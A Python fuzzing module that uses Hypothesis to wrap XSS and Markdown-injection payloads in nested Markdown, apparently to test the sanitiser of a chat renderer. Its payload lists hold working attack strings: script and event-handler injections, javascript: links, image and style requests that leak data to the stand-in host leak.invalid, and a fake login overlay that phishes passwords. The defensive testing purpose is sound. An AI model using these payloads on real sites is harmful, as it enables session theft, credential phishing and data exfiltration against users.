"""Answers that try to become markup, and nested Markdown around them. `leak.invalid` stands for a foreign host."""

from __future__ import annotations

from hypothesis import strategies as st

# Each was an element, a request or a script on the page of a former version, or is of the same kind.
ANSWERS = {
    "indent": '    code\n<img src="/gradio_api/file=http://leak.invalid/leak?case=indent">',
    "escback": '\\`<img src="/gradio_api/file=http://leak.invalid/leak?case=escback">\\`',
    "listfence": '- ```\n<img src="/gradio_api/file=http://leak.invalid/leak?case=listfence">',
    "heading": '# a `\n<img src="/gradio_api/file=http://leak.invalid/leak?case=heading"> `',
    "svgjs": '    code\n<svg width="400" height="60"><a href="javascript:void(window.hacked=\'svgjs\')">'
    '<rect width="400" height="60" fill="red"/></a></svg>',
    "formclob": "    code\n<form action=\"javascript:void(window.hacked='formclob')\"><input name=action>"
    "<button type=submit id=fc>go</button></form>",
    "video": '    code\n<video autoplay src="/gradio_api/file=http://leak.invalid/leak?case=video.mp4"></video>',
    "style": "    code\n<style>body{background:url(/gradio_api/file=http://leak.invalid/leak?case=style)}</style>",
    "mermaid": "- ```\n\n```mermaid\ngraph TD\nA-->B\nclick A href \"javascript:window.hacked='mermaid'\"\n```",
    "katexbig": "$$\\rule{4000em}{4000em}$$",
    "dns": "Look at http://leak-secret-42.leak.invalid/x and [here](http://leak-md-43.leak.invalid/)",
    "overlay": '1. x\n\n    <div style="position:fixed;inset:0;background:red;z-index:99999">'
    '<a href="https://leak.invalid/login">Please log in again</a><form action="https://leak.invalid">'
    "<input name=p type=password><button>Log in</button></form></div>\n",
    "generics": "- first\n\n    Use List<String> and Map<K, V> here.\n",
    "backticks": "- a backtick ` alone <b>one</b>\n- another ` and <i>two</i>",
    "nested fence": "- item:\n  - sub:\n    ```python\n    a = 1 < 2\n\n    b = 3 < 4\n    ```\n- next <T>",
    "picture": "![a secret](http://leak.invalid/p.png) ![](data:image/png;base64,AAAA) ![x](/gradio_api/file=http://leak.invalid/)",
    "reference": "[x]\n\n![y][x]\n\n[x]: http://leak.invalid/r.png 'onclick=alert(1)'",
    "srcset": "<picture><source srcset=http://leak.invalid/s><img></picture>",
    "math": "$\\href{javascript:window.hacked='math'}{x}$ \\(\\style{position:fixed;inset:0}{x}\\) \\[\\class{kw}{x}\\]"
    " $\\text{<img src=http://leak.invalid/m>}$ $$\\kern9999em\\hspace{9999em}x$$ $\\color{red}{x}$",
    "template": "${window.hacked='t'} {{constructor.constructor('window.hacked=1')()}} #{x} <%= x %>",
}

PAYLOADS = (
    *ANSWERS.values(),
    "<script>window.hacked=1</script>",
    "<script src=//leak.invalid/s.js></script>",
    "<img src=x onerror=window.hacked=2>",
    "<svg onload=window.hacked=3>",
    "<svg><a href=javascript:window.hacked=4><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.hacked=5</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src onerror=window.hacked=6>",
    "<details open ontoggle=window.hacked=7>",
    "<input autofocus onfocus=window.hacked=8>",
    "<meta http-equiv=refresh content='0;url=http://leak.invalid'>",
    "<link rel=stylesheet href=http://leak.invalid/c.css>",
    "<base href=http://leak.invalid/>",
    "<object data=http://leak.invalid/o></object><embed src=http://leak.invalid/e>",
    "<style>*{background:url(http://leak.invalid/b)}</style>",
    "<!-- --!><img src=http://leak.invalid/c> -->",
    "<![CDATA[<img src=http://leak.invalid/d>]]>",
    "<?php echo 1 ?>",
    "<x-element style=position:fixed;inset:0>over</x-element>",
    "&lt;img src=http://leak.invalid/e&gt; &#60;script&#62;window.hacked=9&#60;/script&#62;",
    "[a](javascript:window.hacked=10) [b](JaVaScRiPt:window.hacked=11) [c](&#106;avascript:window.hacked=12)",
    "[d](data:text/html,<script>window.hacked=13</script>) [e](vbscript:x) [f](blob:x) [g](//leak.invalid) [h](file:///x)",
    '[i](http://leak.invalid/"onmouseover="window.hacked=14) [j](<http://leak.invalid/ onclick=window.hacked>)',
    '<javascript:window.hacked=15> <data:text/html,x> <https://leak.invalid/a"b>',
    "[k]( javascript:window.hacked=16 'title\" onclick=\"x') [l](java\tscript:x) [m](\x01javascript:x)",
    'https://leak.invalid/"><img/src=x/onerror=window.hacked=17>',
    "$$\n<img src=http://leak.invalid/x>\n$$",
    "\\(\\unicode{<script>}\\) $\\require{html}\\cssId{kw}{x}$ $\\includegraphics{http://leak.invalid/g}$",
    "$\\newcommand{\\a}{\\a\\a}\\a$ $\\def\\x{\\x}\\x$ $\\\\\\\\$ ${{{{{{$ $x^{$",
    "javascript:window.hacked=18 www.leak.invalid leak.invalid/x mailto:a@leak.invalid",
    "[n]: javascript:window.hacked=19\n\n[n] ![o][n]",
    "@import url(http://leak.invalid/i);",
    "constructor __proto__ toString hasOwnProperty",
)

_WORDS = (
    "a",
    "x < y",
    "List<String>",
    "*b*",
    "**c**",
    "~d~",
    "~~e~~",
    "`f`",
    "``g ` h``",
    "_i_",
    "&amp;",
    "&#x3c;",
    "\\<",
    "\\*",
)
_words = st.sampled_from(_WORDS)
_payload = st.sampled_from(PAYLOADS)
_noise = st.text("<>&\"'`~*_[]()!|\\$#-+=:;/{}.\n\t 0aA\u00a0\u202e\ufffd", max_size=24)
_leaf = st.one_of(_payload, _payload, st.lists(_words, min_size=1, max_size=5).map(" ".join), _noise)
_containers = st.sampled_from(
    (
        "> \0> ",
        ">\0",
        "- \0  ",
        "* \0    ",
        "1. \0   ",
        "12) \0    ",
        "    \0    ",
        "\t\0\t",
        "  \0  ",
        "- [ ] \0  ",
        "# \0",
        "- - \0    ",
    )
)
_wrappers = st.sampled_from(
    (
        "```\n{}\n```",
        "```mermaid\n{}\n```",
        "```cpp\n{}\n```",
        "~~~~html onload=x\n{}\n~~~~",
        "```\n{}",
        "`{}`",
        "``{} ``",
        "`{}",
        "*{}*",
        "**{}**",
        "~~{}~~",
        "[{}](http://leak.invalid/w)",
        "![{}](http://leak.invalid/w)",
        "${}$",
        "$$\n{}\n$$",
        "\\({}\\)",
        "\\[\n{}\n\\]",
        "| {} | b |\n| :- | -: |\n| {} | c |",
        "<div {}>",
        "<a href='{}'>",
        "<!-- {}",
        "{}\n===",
        "\\{}",
        "[r]: {}\n\n[r]",
        "x[^1]\n\n[^1]: {}",
        "[^{}] [^1]",
        "重**{}。**重",
        "www.leak.invalid/{}",
        "{}@leak.invalid",
    )
)


def _within(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    contained = st.tuples(_containers, inner).map(lambda pair: _indented(*pair))
    wrapped = st.tuples(_wrappers, inner).map(lambda pair: pair[0].replace("{}", pair[1]))
    joined = st.tuples(inner, st.sampled_from(("\n", "\n\n", " ", "")), inner).map("".join)
    return st.one_of(contained, wrapped, joined)


def _indented(prefixes: str, text: str) -> str:
    first, rest = prefixes.split("\0")
    return "\n".join((first if number == 0 else rest) + line for number, line in enumerate(text.split("\n")))


documents: st.SearchStrategy[str] = st.recursive(_leaf, _within, max_leaves=8)
